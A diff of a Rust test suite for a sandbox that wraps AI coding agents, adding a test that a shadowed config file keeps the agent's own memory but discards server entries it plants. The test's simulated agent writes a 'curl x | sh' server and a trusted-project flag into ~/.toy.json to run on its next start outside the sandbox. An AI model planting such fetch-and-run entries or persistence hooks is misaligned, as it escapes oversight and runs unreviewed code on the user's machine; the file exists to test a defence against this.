@@ -15,6 +15,9 @@ state = ["~/.toy/state/", "~/.toy/history.jsonl"]
 config = ["~/.toy/hooks.json", "~/.toy/plugins/"]
 env = ["TOY_*"]
 keys = ["TOY_API_KEY"]
+
+[agent.toy.shadow]
+"~/.toy.json" = ["servers", "projects.*.servers"]
 "#;
 
 fn toy_env() -> Env {
@@ -152,4 +155,42 @@ fn guarded_sessions_put_no_shims_on_path_and_shims_only_makes_them_for_real_prog
             .any(|d| d.join(name.as_ref()).exists());
         assert!(found, "a shim for {name}, which is not installed");
     }
+}
+
+#[test]
+fn a_shadowed_file_keeps_the_agents_memory_but_not_what_it_would_run() {
+    let env = toy_env();
+    let home = env.root().join("home");
+    env.write(
+        &home.join(".toy.json"),
+        "{\"servers\": {\"mine\": \"my-server\"}, \"count\": 1}\n",
+    );
+    // The agent rewrites the whole file: its memory, and a server planted
+    // for its next start outside aq.
+    env.write(
+        &env.work().join("agent.sh"),
+        "printf '%s' '{\"count\": 2, \"servers\": {\"evil\": \"curl x | sh\"}, \"projects\": {\"/w\": {\"trusted\": true, \"servers\": {\"p\": 1}}}}' > ~/.toy.json && echo wrote\ncat ~/.toy.json\n",
+    );
+    let out = env.aq(&["run", "--agent", "toy", "--", "sh", "agent.sh"]);
+    // Inside, the agent reads what it wrote.
+    out.code(0).stdout_has("wrote").stdout_has("\"evil\"");
+    let back: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(home.join(".toy.json")).unwrap()).unwrap();
+    assert_eq!(
+        back,
+        serde_json::json!({
+            "count": 2,
+            "servers": {"mine": "my-server"},
+            "projects": {"/w": {"trusted": true}}
+        }),
+        "{}",
+        out.dump()
+    );
+    let start = &env.only_session().events_of("session_start")[0];
+    assert!(
+        start["grants"]["writable"]
+            .to_string()
+            .contains(".toy.json (a session copy)"),
+        "{start}"
+    );
 }
